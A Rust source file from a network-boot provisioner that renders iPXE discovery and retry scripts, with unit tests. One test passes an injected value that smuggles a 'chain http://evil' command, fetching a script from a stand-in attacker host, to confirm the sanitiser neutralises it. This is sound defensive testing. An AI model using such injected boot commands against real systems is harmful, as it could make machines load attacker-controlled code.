//! What a node boots. Every node gets the discovery image for now; the lifecycle will decide
//! from the node's state. The iPXE scripts come from the askama templates in
//! `templates/ipxe/`.

use askama::Template;

use crate::artifacts::Artifact;
use crate::dhcp::pxe::BootServer;
use crate::types::MacAddr;

/// Seconds an iPXE client waits before it asks again after an error.
pub const RETRY_SECS: u32 = 10;

/// The discovery kernel and initramfs, imported as artifacts, and the operator's command line.
#[derive(Clone, Debug)]
pub struct Discovery {
    pub kernel: Artifact,
    pub initrd: Artifact,
    pub cmdline: String,
}

#[derive(Template)]
#[template(path = "ipxe/discovery.ipxe", escape = "none")]
struct DiscoveryScript {
    mac: MacAddr,
    kernel_url: String,
    initrd_url: String,
    cmdline: String,
    script_url: String,
    retry_secs: u32,
}

#[derive(Template)]
#[template(path = "ipxe/error.ipxe", escape = "none")]
struct ErrorScript {
    reason: String,
    retry_url: String,
    retry_secs: u32,
}

#[derive(Debug, thiserror::Error)]
pub enum BootError {
    #[error("no discovery image is configured (--discovery-kernel and --discovery-initrd)")]
    NoDiscoveryImage,
    #[error("cannot render the iPXE script: {0}")]
    Render(#[from] askama::Error),
}

/// The kernel command line of a node: the operator's, then how to reach the appliance.
pub fn kernel_cmdline(operator: &str, server: &BootServer, mac: MacAddr) -> String {
    let mut line = operator.trim().to_string();
    if !line.is_empty() {
        line.push(' ');
    }
    line.push_str(&format!(
        "provisioner.url={} provisioner.mac={mac}",
        server.base_url()
    ));
    line
}

/// The iPXE script for `mac`.
pub fn script(
    discovery: Option<&Discovery>,
    server: &BootServer,
    mac: MacAddr,
) -> Result<String, BootError> {
    let d = discovery.ok_or(BootError::NoDiscoveryImage)?;
    Ok(DiscoveryScript {
        mac,
        kernel_url: d.kernel.url(server),
        initrd_url: d.initrd.url(server),
        cmdline: kernel_cmdline(&d.cmdline, server, mac),
        script_url: server.script_url(mac),
        retry_secs: RETRY_SECS,
    }
    .render()?
        + "\n")
}

/// A script that prints `reason` and tries again after a delay: an iPXE client is never left
/// at a dead end. `retry_url` may use iPXE's `${net0/mac}` when the MAC is unknown.
pub fn error_script(reason: &str, retry_url: &str) -> String {
    let script = ErrorScript {
        reason: ipxe_safe(reason),
        retry_url: retry_url.to_string(),
        retry_secs: RETRY_SECS,
    };
    // askama drops the template's final newline; iPXE wants it.
    script.render().map(|s| s + "\n").unwrap_or_else(|_| {
        // The template is plain text with three strings; rendering cannot fail in practice,
        // but the client still gets a script that retries.
        format!("#!ipxe\nsleep {RETRY_SECS}\nchain --replace --autofree {retry_url}\n")
    })
}

/// Text that iPXE prints as it is: one line, no settings expansion.
fn ipxe_safe(s: &str) -> String {
    s.chars()
        .map(|c| match c {
            '$' | '\n' | '\r' | '#' => ' ',
            c if c.is_control() => ' ',
            c => c,
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::types::Sha256;

    const SERVER: BootServer = BootServer {
        advertise: std::net::Ipv4Addr::new(10, 99, 0, 1),
        http_port: 8080,
    };

    fn artifact(byte: u8, name: &str) -> Artifact {
        Artifact {
            sha256: Sha256([byte; 32]),
            size: 10,
            name: name.into(),
        }
    }

    #[test]
    fn discovery_script_is_exact() {
        let d = Discovery {
            kernel: artifact(0xaa, "vmlinuz"),
            initrd: artifact(0xbb, "initrd.img"),
            cmdline: "console=ttyS0 ".into(),
        };
        let mac: MacAddr = "52:54:00:12:34:56".parse().unwrap();
        let got = script(Some(&d), &SERVER, mac).unwrap();
        let k = "aa".repeat(32);
        let i = "bb".repeat(32);
        let want = format!(
            "#!ipxe
# Provisioner: 52:54:00:12:34:56 boots the discovery image.
echo Provisioner: 52:54:00:12:34:56 boots the discovery image
kernel http://10.99.0.1:8080/artifacts/{k}/vmlinuz initrd=initrd console=ttyS0 provisioner.url=http://10.99.0.1:8080 provisioner.mac=52:54:00:12:34:56 || goto failed
initrd --name initrd http://10.99.0.1:8080/artifacts/{i}/initrd.img || goto failed
boot || goto failed

:failed
echo Provisioner: booting the discovery image failed; retrying in 10 seconds
sleep 10
chain --replace --autofree http://10.99.0.1:8080/boot/52-54-00-12-34-56.ipxe
"
        );
        assert_eq!(got, want);
    }

    #[test]
    fn error_script_prints_and_retries_and_cannot_be_injected() {
        let s = error_script(
            "bad\nchain http://evil ${x}",
            "http://10.99.0.1:8080/boot/${net0/mac}.ipxe",
        );
        assert!(s.starts_with("#!ipxe\n"));
        assert!(
            s.contains("echo Provisioner: bad chain http://evil  {x}\n"),
            "{s}"
        );
        assert!(s.contains(
            "sleep 10\nchain --replace --autofree http://10.99.0.1:8080/boot/${net0/mac}.ipxe\n"
        ));
        assert!(matches!(
            script(None, &SERVER, "52:54:00:12:34:56".parse().unwrap()),
            Err(BootError::NoDiscoveryImage)
        ));
    }
}
